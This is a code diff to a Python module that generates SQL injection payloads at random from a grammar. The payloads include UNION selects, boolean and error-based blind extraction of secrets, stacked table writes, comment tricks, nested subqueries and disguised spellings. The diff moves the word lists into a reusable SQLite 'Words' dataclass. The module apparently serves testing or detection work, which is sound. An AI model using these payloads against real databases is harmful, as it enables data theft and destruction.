@@ -1,9 +1,42 @@
 """Texts that attackers put into statements, made at random from a small grammar."""
 
 import random
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping, Sequence
+from dataclasses import dataclass
+from typing import TypeAlias
 
-__all__ = ["POINTS", "payloads"]
+__all__ = ["AFTER", "BEFORE", "FITTING", "POINTS", "SQLITE", "Words", "payloads"]
+
+#: What stands before a payload, and what after it.
+Ends: TypeAlias = tuple[Sequence[str], Sequence[str]]
+
+
+@dataclass(frozen=True)
+class Words:
+    """What a database calls what attackers look for."""
+
+    points: Mapping[str, str]
+    #: What closes and reopens the text round a place, and what it may be besides.
+    fitting: Mapping[str, Ends]
+    others: Ends
+    tables: Sequence[str]
+    #: For the first column of a UNION, and for the others.
+    firsts: Sequence[str]
+    columns: Sequence[str]
+    wheres: Sequence[str]
+    secrets: Sequence[str]
+    #: Of a secret: what is true or false by it, and what fails by it.
+    tests: Sequence[str]
+    errors: Sequence[str]
+    #: How either is put beside what is there.
+    tested: Sequence[str]
+    failing: Sequence[str]
+    truths: Sequence[str]
+    writes: Sequence[str]
+    comments: Sequence[str]
+    #: Other spellings of `orders`.
+    spellings: Sequence[str]
+
 
 #: What a careless program sends, with the place that a payload is put into.
 POINTS = {
@@ -29,7 +62,7 @@ POINTS = {
 _QUOTED = ("' ", "open' ", "x'", "' OR 1 "), (" --", "--", "/*", " --\n")
 _WITHIN = ("1 ", "101", "0 ", "(1)", "id ", "NULL "), ("", "", " --", " /*", "\n")
 _LISTED = ("1) ", "101, 103) ", "1)"), (" --", "/*", "--")
-_FITTING = {
+FITTING: dict[str, Ends] = {
     **dict.fromkeys(("string", "update", "script"), _QUOTED),
     "like": (("%' ", "' "), (" --", "--", "/*")),
     "insert": (("x') ", "') "), (" --", "/*")),
@@ -38,9 +71,12 @@ _FITTING = {
     "column": (("id ", "id, status ", "1 "), (" FROM orders --", "", " --", "/*")),
     "alias": (("x FROM orders ", "x, status FROM orders "), (" --", "/*")),
     "table": (("orders ", "notes ", "orders o WHERE 1 "), ("", " --", "/*")),
+    **dict.fromkeys(
+        ("number", "order", "limit", "join", "update where", "delete"), _WITHIN
+    ),
 }
-_BEFORE = ("", "", "'", "' ", "1", "0", "x'", "1)", "')", "1'", "%'", '"', "1 ", "*/")
-_AFTER = (
+BEFORE = ("", "", "'", "' ", "1", "0", "x'", "1)", "')", "1'", "%'", '"', "1 ", "*/")
+AFTER = (
     "",
     "",
     "--",
@@ -93,94 +129,110 @@ _WRITES = (
     "(what) VALUES ('x')", "CREATE TABLE kept AS SELECT * FROM orders",
 )  # fmt: skip
 
+_TESTS = (
+    "substr(({}), 1, 1) = 'g'",
+    "({}) LIKE 'gh%'",
+    "({}) > 9000",
+    "length(({})) BETWEEN 1 AND 99",
+    "({}) IS NOT NULL",
+    "unicode(({})) > 64",
+    "EXISTS ({})",
+    "1 IN ({})",
+    "({}) GLOB '[a-z]*'",
+)
+_ERRORS = (
+    "json_extract('{{}}', '$' || ({}))",
+    "CASE WHEN ({}) > 9000 THEN json('{{') ELSE 1 END",
+    "abs(CASE WHEN ({}) IS NULL THEN 1 ELSE -9223372036854775807 - 1 END)",
+    "json(({}))",
+    "load_extension(({}))",
+    "zeroblob(CASE WHEN ({}) IS NULL THEN 1 ELSE 9999999999 END)",
+    "printf('%d', ({}))",
+    "json_extract('{{}}', '$' || status)",
+    "json(CASE WHEN tenant_id = 8 THEN '{{' ELSE '1' END)",
+)
+SQLITE = Words(
+    points=POINTS,
+    fitting=FITTING,
+    others=(BEFORE, AFTER),
+    tables=_TABLES,
+    firsts=_COLUMNS,
+    columns=_COLUMNS,
+    wheres=("", "", " WHERE 1", " WHERE tenant_id = 8", " WHERE id = 103"),
+    secrets=_SECRETS,
+    tests=_TESTS,
+    errors=_ERRORS,
+    tested=(" OR {}", " AND {}", " OR NOT {}", "*({})", " = ({})"),
+    failing=(" AND {}", " OR {}", "+{}", ", {}", "||{}"),
+    truths=("1=1", "tenant_id = 8", "1 OR 1", "NULL IS NULL"),
+    writes=_WRITES,
+    comments=(
+        " --", "/*", "/* */ OR 1", " OR 1 -- x", "/*!50000 OR 1*/", " -- \n OR 1",
+        " OR/**/1", "*/ OR 1 /*", " OR 1 #", "--\n;", " OR '' = '", ') OR ("" = "',
+    ),
+    spellings=('"orders"', "[orders]", "`orders`"),
+)  # fmt: skip
 
-def payloads(seed: int, count: int) -> Iterator[tuple[str, str]]:
+
+def payloads(words: Words, seed: int, count: int) -> Iterator[tuple[str, str]]:
     """Pairs of an injection point's name and a payload."""
     rng = random.Random(seed)
     kinds = (_union, _boolean, _error, _stacked, _comment, _expression, _nested)
-    points = list(POINTS)
+    points = list(words.points)
     for number in range(count):
         point = points[number % len(points)]
-        body = rng.choice(kinds)(rng)
-        before, after = _FITTING.get(point, _WITHIN)
+        body = rng.choice(kinds)(rng, words)
+        before, after = words.fitting[point]
         if rng.random() < 0.2:
-            before, after = _BEFORE, _AFTER
-        payload = _disguised(rng, rng.choice(before) + body + rng.choice(after))
-        yield point, payload
+            before, after = words.others
+        payload = rng.choice(before) + body + rng.choice(after)
+        yield point, _disguised(rng, words, payload)
 
 
-def _union(rng: random.Random) -> str:
+def _union(rng: random.Random, words: Words) -> str:
     number = rng.choice((1, 2, 2, 2, 3, 3))
-    columns = ", ".join(rng.choice(_COLUMNS) for _ in range(number))
+    kinds = [words.firsts, *[words.columns] * (number - 1)]
+    columns = ", ".join(rng.choice(kind) for kind in kinds)
     join = rng.choice(("UNION", "UNION ALL", "EXCEPT", "INTERSECT", "union/**/all"))
-    where = rng.choice(("", "", " WHERE 1", " WHERE tenant_id = 8", " WHERE id = 103"))
-    return f" {join} SELECT {columns} FROM {rng.choice(_TABLES)}{where}"
+    where = rng.choice(words.wheres)
+    return f" {join} SELECT {columns} FROM {rng.choice(words.tables)}{where}"
 
 
-def _boolean(rng: random.Random) -> str:
-    secret = rng.choice(_SECRETS)
-    test = rng.choice(
-        (
-            "substr(({}), 1, 1) = 'g'",
-            "({}) LIKE 'gh%'",
-            "({}) > 9000",
-            "length(({})) BETWEEN 1 AND 99",
-            "({}) IS NOT NULL",
-            "unicode(({})) > 64",
-            "EXISTS ({})",
-            "1 IN ({})",
-            "({}) GLOB '[a-z]*'",
-        )
-    ).format(secret)
-    return rng.choice((" OR {}", " AND {}", " OR NOT {}", "*({})", " = ({})")).format(
-        rng.choice((test, test, "1=1", "tenant_id = 8", "1 OR 1", "NULL IS NULL"))
-    )
+def _boolean(rng: random.Random, words: Words) -> str:
+    secret = rng.choice(words.secrets)
+    test = rng.choice(words.tests).format(secret)
+    return rng.choice(words.tested).format(rng.choice((test, test, *words.truths)))
 
 
-def _error(rng: random.Random) -> str:
-    secret = rng.choice(_SECRETS)
-    test = rng.choice(
-        (
-            "json_extract('{{}}', '$' || ({}))",
-            "CASE WHEN ({}) > 9000 THEN json('{{') ELSE 1 END",
-            "abs(CASE WHEN ({}) IS NULL THEN 1 ELSE -9223372036854775807 - 1 END)",
-            "json(({}))",
-            "load_extension(({}))",
-            "zeroblob(CASE WHEN ({}) IS NULL THEN 1 ELSE 9999999999 END)",
-            "printf('%d', ({}))",
-            "json_extract('{{}}', '$' || status)",
-            "json(CASE WHEN tenant_id = 8 THEN '{{' ELSE '1' END)",
-        )
-    ).format(secret)
-    return rng.choice((" AND {}", " OR {}", "+{}", ", {}", "||{}")).format(test)
+def _error(rng: random.Random, words: Words) -> str:
+    secret = rng.choice(words.secrets)
+    test = rng.choice(words.errors).format(secret)
+    return rng.choice(words.failing).format(test)
 
 
-def _stacked(rng: random.Random) -> str:
-    writes = "; ".join(rng.choice(_WRITES) for _ in range(rng.randint(1, 2)))
+def _stacked(rng: random.Random, words: Words) -> str:
+    writes = "; ".join(rng.choice(words.writes) for _ in range(rng.randint(1, 2)))
     return f"; {writes}{rng.choice(('', ';'))}"
 
 
-def _comment(rng: random.Random) -> str:
-    text = rng.choice(
-        (" --", "/*", "/* */ OR 1", " OR 1 -- x", "/*!50000 OR 1*/", " -- \n OR 1",
-         " OR/**/1", "*/ OR 1 /*", " OR 1 #", "--\n;", " OR '' = '", ') OR ("" = "'),
-    )  # fmt: skip
-    return text + rng.choice(("", " OR tenant_id = 8", " OR deleted_at IS NOT NULL"))
+def _comment(rng: random.Random, words: Words) -> str:
+    more = rng.choice(("", " OR tenant_id = 8", " OR deleted_at IS NOT NULL"))
+    return rng.choice(words.comments) + more
 
 
-def _expression(rng: random.Random) -> str:
+def _expression(rng: random.Random, words: Words) -> str:
     return rng.choice(
         ("({})", "1, ({})", "1 + ({})", "' || ({}) || '", "max(({}))")
-    ).format(rng.choice(_SECRETS))
+    ).format(rng.choice(words.secrets))
 
 
-def _nested(rng: random.Random) -> str:
-    inner = rng.choice((_union, _boolean))(rng)
+def _nested(rng: random.Random, words: Words) -> str:
+    inner = rng.choice((_union, _boolean))(rng, words)
     depth = rng.randint(1, 3)
     return f" IN ({'SELECT id FROM orders WHERE id IN (' * depth}1{inner}{')' * depth})"
 
 
-def _disguised(rng: random.Random, text: str) -> str:
+def _disguised(rng: random.Random, words: Words, text: str) -> str:
     """Written in another way that databases read the same, at times."""
     way = rng.randrange(10)
     if way == 0:
@@ -190,5 +242,5 @@ def _disguised(rng: random.Random, text: str) -> str:
     if way == 2:
         return text.replace(" ", rng.choice(("\t", "\n", "\r\n", "\f", "  ")))
     if way == 3:
-        return text.replace("orders", rng.choice(('"orders"', "[orders]", "`orders`")))
+        return text.replace("orders", rng.choice(words.spellings))
     return text
